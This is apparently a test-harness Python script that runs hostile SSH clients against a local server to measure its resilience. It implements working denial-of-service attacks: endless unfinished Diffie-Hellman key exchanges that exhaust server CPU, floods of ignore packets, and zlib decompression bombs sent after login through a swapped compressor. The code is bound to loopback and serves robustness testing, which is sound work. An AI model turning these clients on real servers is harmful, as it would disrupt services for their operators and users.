"""Clients that speak SSH to do harm, in a process of their own: ``python attackers.py KIND ...``.

They keep to the loopback, to the seconds and to the number of connections that they are told, and
print as JSON what they got done.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import time
import zlib
from contextlib import suppress
from dataclasses import dataclass, field
from functools import cache
from typing import Any

KEXINIT, NEWKEYS, KEXDH_INIT, KEXDH_REPLY, IGNORE = 20, 21, 30, 31, 2
DEAR, CHEAP = "diffie-hellman-group18-sha512", "curve25519-sha256"
KEX = (DEAR, CHEAP)
CIPHERS, MACS = "aes128-ctr", "hmac-sha2-256"
LARGEST = 65000  # bytes of a packet that any server takes, nearly
_PAUSE = 0.01  # s between a connection that was cut and the next


def string(data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + data


def packet(payload: bytes) -> bytes:
    """Returns a packet as it is sent before there are keys."""
    padding = 8 - (len(payload) + 5) % 8
    padding += 8 * (padding < 4)
    return (
        (len(payload) + padding + 1).to_bytes(4, "big")
        + bytes([padding])
        + payload
        + bytes(padding)
    )


def kexinit(
    kex: tuple[str, ...] = KEX,
    host_keys: tuple[str, ...] = ("ssh-ed25519",),
    *,
    guesses: bool = False,
) -> bytes:
    lists = (",".join(kex), ",".join(host_keys), CIPHERS, CIPHERS, MACS, MACS)
    compression = "zlib@openssh.com,none"
    names = b"".join(string(text.encode()) for text in (*lists, compression, compression, "", ""))
    return bytes([KEXINIT]) + os.urandom(16) + names + bytes([guesses]) + bytes(4)


def kexdh_init(kex: str) -> bytes:
    """Returns a first value that costs its sender nothing: a constant."""
    value = (2**8190 + 12345).to_bytes(1024, "big") if kex == DEAR else b"\x09" + bytes(31)
    return bytes([KEXDH_INIT]) + string(value)


class RawClient:
    """One connection that never has any keys."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter):
        self._reader, self._writer = reader, writer
        self.offered: list[str] = []
        self.received = 0

    @classmethod
    async def open(cls, port: int, address: str) -> RawClient:
        streams = await asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0))
        client = cls(*streams)
        client._writer.write(b"SSH-2.0-attacker\r\n")
        await client._reader.readuntil(b"\n")
        payload = await client.packet()
        names = payload[17 : 21 + int.from_bytes(payload[17:21], "big")][4:]
        client.offered = names.decode().split(",")
        return client

    async def packet(self) -> bytes:
        """Returns the next packet's payload, as long as the server sends them in the clear."""
        head = await self._reader.readexactly(5)
        length = int.from_bytes(head[:4], "big")
        rest = await self._reader.readexactly(length - 1)
        self.received += length + 4
        return rest[: len(rest) - head[4]]

    async def at_least(self, count: int) -> None:
        """Waits until the server has sent so many bytes more, whatever they say."""
        while count > 0:
            data = await self._reader.read(65536)
            if not data:
                raise ConnectionError
            count -= len(data)

    def send(self, *payloads: bytes) -> None:
        self._writer.write(b"".join(packet(payload) for payload in payloads))

    async def until(self, kind: int) -> bytes:
        while (payload := await self.packet())[0] != kind:
            pass
        return payload

    def close(self) -> None:
        self._writer.transport.abort()


@dataclass
class Done:
    """What attackers got done."""

    connections: int = 0
    exchanges: int = 0
    bombs: int = 0
    packets: int = 0
    errors: list[str] = field(default_factory=list)


async def loop_exchanges(port: int, address: str, until: float, done: Done) -> None:
    """Begins one key exchange after the other and never finishes one."""
    while time.monotonic() < until:
        client: RawClient | None = None
        with suppress(OSError, EOFError, ValueError):
            client = await asyncio.wait_for(RawClient.open(port, address), 5)
            done.connections += 1
            kex = next(name for name in KEX if name in client.offered)
            client.received = 0
            client.send(kexinit(), kexdh_init(kex))
            await asyncio.wait_for(client.until(NEWKEYS), 5)
            done.exchanges += 1
            cost = client.received  # the first answer had its first half before the question
            while time.monotonic() < until:
                client.send(kexinit(), kexdh_init(kex))
                await asyncio.wait_for(client.at_least(cost), 5)
                done.exchanges += 1
        if client is not None:
            client.close()
        await asyncio.sleep(_PAUSE)


async def babble(port: int, address: str, until: float, done: Done) -> None:
    """Sends packets that mean nothing, as many as are taken, and shows nothing."""
    words = packet(bytes([IGNORE]) + string(b"")) * 1000
    while time.monotonic() < until:
        client: RawClient | None = None
        with suppress(OSError, EOFError, ValueError):
            client = await asyncio.wait_for(RawClient.open(port, address), 5)
            done.connections += 1
            while time.monotonic() < until:
                client._writer.write(words)
                await client._writer.drain()
                done.packets += 1000
        if client is not None:
            client.close()
        await asyncio.sleep(_PAUSE)


@cache
def bomb(megabytes: int) -> bytes:
    """Returns the zlib blocks of a packet to ignore that holds so many million zeros."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    size = megabytes * 10**6
    parts = [deflate.compress(bytes([IGNORE]) + size.to_bytes(4, "big"))]
    parts += [deflate.compress(bytes(10**6)) for _unused in range(megabytes)]
    return b"".join([*parts, deflate.flush(zlib.Z_SYNC_FLUSH)])


@cache
def legal_packets(size: int) -> bytes:
    """Returns the zlib blocks of one packet to ignore that is as large as a packet may be."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    payload = bytes([IGNORE]) + string(bytes(size))
    return deflate.compress(payload) + deflate.flush(zlib.Z_SYNC_FLUSH)


class Bombs:
    """Takes the place of a client's compressor, and sends what is no compressed payload."""

    def __init__(self, blocks: bytes):
        self._blocks = blocks

    def compress(self, _data: bytes) -> bytes:
        return self._blocks


class Afresh:
    """Takes the place of a client's compressor after ``Bombs``: refers to nothing before."""

    def compress(self, data: bytes) -> bytes:
        deflate = zlib.compressobj(6, zlib.DEFLATED, -15)
        return deflate.compress(data) + deflate.flush(zlib.Z_SYNC_FLUSH)


async def send_bombs(
    port: int, address: str, token: str, until: float, done: Done, blocks: bytes, count: int
) -> None:
    """Logs in, sends some bombs, and begins anew when it has been cut."""
    import asyncssh

    while time.monotonic() < until:
        try:
            connection: Any = await asyncio.wait_for(
                asyncssh.connect(
                    "127.0.0.1", port, local_addr=(address, 0), username="x", password=token,
                    known_hosts=None, config=None, agent_path=None, client_keys=None,
                    compression_algs=["zlib@openssh.com"],
                ), 10)  # fmt: skip
        except (OSError, asyncssh.Error, TimeoutError) as error:
            done.errors.append(type(error).__name__)
            await asyncio.sleep(_PAUSE)
            continue
        done.connections += 1
        with suppress(OSError, asyncssh.Error):
            await connection.create_session(
                asyncssh.SSHClientSession, term_type="xterm", encoding=None
            )
            # What came before has been flushed to a whole byte, so that other blocks may follow.
            connection._compressor = Bombs(blocks)
            for _unused in range(count):
                connection.send_packet(IGNORE, b"")
                done.bombs += 1
                if connection._transport is None or time.monotonic() > until:
                    break
                while connection._transport.get_write_buffer_size() > 2**17:
                    await asyncio.sleep(0.01)
                    if connection._transport is None:
                        break
                if not done.bombs % 64:
                    await asyncio.sleep(0)
            with suppress(TimeoutError):
                await asyncio.wait_for(connection.wait_closed(), until - time.monotonic())
        connection.abort()
        await asyncio.sleep(_PAUSE)


async def attack(options: argparse.Namespace) -> Done:
    done = Done()
    blocks = b""
    if options.bombers:
        size = 0 if options.small else LARGEST
        blocks = legal_packets(size) if options.legal else bomb(options.megabytes)
    print("ready", flush=True)
    until = time.monotonic() + options.seconds
    await asyncio.gather(
        *(
            loop_exchanges(options.port, options.address, until, done)
            for _unused in range(options.exchangers)
        ),
        *(
            babble(options.port, options.address, until, done)
            for _unused in range(options.babblers)
        ),
        *(
            send_bombs(
                options.port, options.address, options.token, until, done, blocks, options.bombs
            )
            for _unused in range(options.bombers)
        ),
    )
    return done


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("port", type=int)
    parser.add_argument("--address", default="127.0.0.66")
    parser.add_argument("--token", default="")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--exchangers", type=int, default=0)
    parser.add_argument("--bombers", type=int, default=0)
    parser.add_argument("--bombs", type=int, default=4)
    parser.add_argument("--babblers", type=int, default=0)
    parser.add_argument("--legal", action="store_true", help="packets as large as they may be")
    parser.add_argument("--small", action="store_true", help="and these empty")
    parser.add_argument("--megabytes", type=int, default=240)
    done = asyncio.run(attack(parser.parse_args()))
    names = ("connections", "exchanges", "bombs", "packets")
    facts = {name: getattr(done, name) for name in names if getattr(done, name)}
    errors = {name: done.errors.count(name) for name in sorted(set(done.errors))}
    print(json.dumps({**facts, "errors": errors}), flush=True)


if __name__ == "__main__":
    main()
